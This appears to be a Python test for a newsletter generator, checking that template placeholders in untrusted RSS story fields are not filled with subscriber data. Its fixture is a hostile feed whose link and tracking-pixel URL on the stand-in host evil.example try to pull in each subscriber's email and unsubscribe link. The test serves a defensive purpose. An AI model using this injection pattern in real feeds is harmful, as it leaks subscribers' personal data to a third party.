"""Story text is untrusted: it must not be able to pull subscriber values into its own URLs."""

from __future__ import annotations

import email
import json
import re
from email import policy
from pathlib import Path

from tests.support import NOW
from tests.support.newsletter import setup_newsletter

EVIL = """<?xml version="1.0"?><rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
<title>Evil</title><link>https://evil.example/</link>
<item><title>Harmless %%digest.email%% story</title><link>https://evil.example/p/%%digest.email%%/</link>
<media:thumbnail url="https://evil.example/pixel.png?who=%%digest.email%%&amp;u=%%digest.unsubscribe_url%%"/>
<description>hi %%digest.name%%</description><pubDate>Tue, 24 Nov 2026 06:00:00 GMT</pubDate></item>
</channel></rss>"""


def test_placeholders_in_story_fields_are_not_filled(cli, home: Path) -> None:
    setup_newsletter(cli, home, EVIL)
    report = json.loads(cli("run", "--now", NOW.isoformat(), "--json").stdout)
    [entry] = report["lists"]
    eml = next((home / "outbox" / f"edition-{entry['edition']}").glob("*ada@example.com.eml"))
    msg = email.message_from_bytes(eml.read_bytes(), policy=policy.default)
    html = msg.get_body(("html",)).get_content()
    text = msg.get_body(("plain",)).get_content()
    evil_urls = re.findall(r'(?:src|href)="(https://evil[^"]*)"', html)
    assert evil_urls, "the story's links should still be there"
    for url in evil_urls:
        assert "ada@" not in url and "/unsubscribe/" not in url, url
    assert "Harmless ada@example.com story" not in html + text + str(msg["Subject"])
    assert "hi Ada" not in html + text
    # the real placeholders still work: Ada's own unsubscribe link is in the footer
    assert re.search(r'href="http://127\.0\.0\.1:8000/unsubscribe/[^"]+"', html)
